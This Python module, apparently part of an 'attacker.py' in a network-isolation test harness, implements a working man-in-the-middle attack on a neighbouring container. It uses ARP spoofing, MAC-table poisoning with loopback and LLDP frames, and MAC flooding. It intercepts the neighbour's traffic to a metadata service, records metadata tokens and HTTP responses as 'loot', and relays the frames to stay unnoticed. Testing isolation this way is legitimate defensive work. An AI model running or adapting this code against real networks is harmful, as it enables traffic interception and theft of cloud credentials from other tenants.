"""Reading a neighbour's traffic with the metadata service. A part of attacker.py."""
import os
import random
import time

from frames import ARP, BROADCAST, IPV4, IPV6, SYN, arp, mac_text, parse_tcp, with_checksum

ACTIVE, STOP = "/dev/shm/active", "/dev/shm/stop"  # tells the test that the attack is under way; ends it
# The host sends a lost answer again after 200 ms, and a lost SYN after a second. Until then the victim must be reachable, or it
# gets nothing to overhear.
RESEND_SECONDS, RESEND_SYN_SECONDS = 0.25, 1.2
FLOOD_FRAMES = 40_000  # In one attack. Docker's default network has a handful of addresses in the table.
LOOPBACK_TEST, LLDP = 0x9000, 0x88CC
LLDP_MAC = "01:80:c2:00:00:0e"


def clean():
    for path in (ACTIVE, STOP):
        if os.path.exists(path):
            os.unlink(path)


class Transit:
    heard_answers = heard_requests = flooded = 0
    began = ended = quiet_until = 0.0

    def overhear(self):
        """Diverts what the victim and the host send to each other, keeps it, and passes it on so that there is more to overhear."""
        self.means = self.order["means"]
        self.wire.sniffers.append(self.hear)
        self.divert()
        self.began = time.monotonic()
        open(ACTIVE, "w").close()
        while not self.enough():
            if time.monotonic() >= self.quiet_until:
                self.divert()
            self.wire.pump(self.order.get("pause", 0.05))
        self.ended = time.monotonic()
        clean()
        self.give_back(0)
        self.loot.answers["answers overheard"] = self.heard_answers
        self.loot.answers["tokens overheard"] = self.heard_requests

    def enough(self):
        return self.heard_answers + self.heard_requests >= self.order["enough"] or os.path.exists(STOP) or time.monotonic() >= self.end

    def divert(self):
        self.loot.rounds += 1
        if "victim" in self.means:
            self.wire.tell(self.host, self.mac, self.victim, self.victim_mac)
        if "host" in self.means:
            self.wire.tell(self.victim, self.mac, self.host, self.host_mac)
        if "mac" in self.means:
            # To a MAC of no interface: only the bridge learns from it.
            self.wire.send("02:66:00:00:00:67", self.victim_mac, LOOPBACK_TEST, bytes(46))
        if "lldp" in self.means:
            # The bridge learns from it too, but takes it out before any hook of netfilter.
            self.wire.send(LLDP_MAC, self.victim_mac, LLDP, bytes(46))
        if "flood" in self.means:
            for _ in range(min(200, FLOOD_FRAMES - self.flooded)):
                self.flooded += 1
                self.wire.send(BROADCAST, "02:" + mac_text(random.randbytes(5)), LOOPBACK_TEST, bytes(46))

    def give_back(self, seconds):
        self.quiet_until = time.monotonic() + seconds
        if "host" in self.means:
            self.wire.tell(self.victim, self.victim_mac, self.host, self.host_mac)
        if "mac" in self.means or "lldp" in self.means:
            # The victim answers, and the bridge learns its port again.
            question = arp(1, self.wire.mac, self.wire.address, "00:00:00:00:00:00", self.victim)
            self.wire.send(BROADCAST, self.wire.mac, ARP, question)

    def hear(self, kind, payload, source_mac):
        if kind not in (IPV4, IPV6):
            return
        segment = parse_tcp(kind, payload)
        if segment is None or source_mac == self.mac:
            return
        if (segment.source, segment.source_port, segment.target) == (*self.service, self.victim):
            is_answer, next_mac = True, self.victim_mac
        elif (segment.source, segment.target, segment.target_port) == (self.victim, *self.service):
            is_answer, next_mac = False, self.host_mac
        else:
            return
        if segment.data.startswith(b"HTTP/1.1 200") or b"metadata-token:" in segment.data:
            self.loot.text.append(segment.data.decode("latin1"))
            self.heard_answers += is_answer
            self.heard_requests += not is_answer
        self.send(next_mac, with_checksum(kind, payload))
        if is_answer and segment.data:
            self.give_back(RESEND_SECONDS)
        elif is_answer and segment.flags & SYN:
            self.give_back(RESEND_SYN_SECONDS)
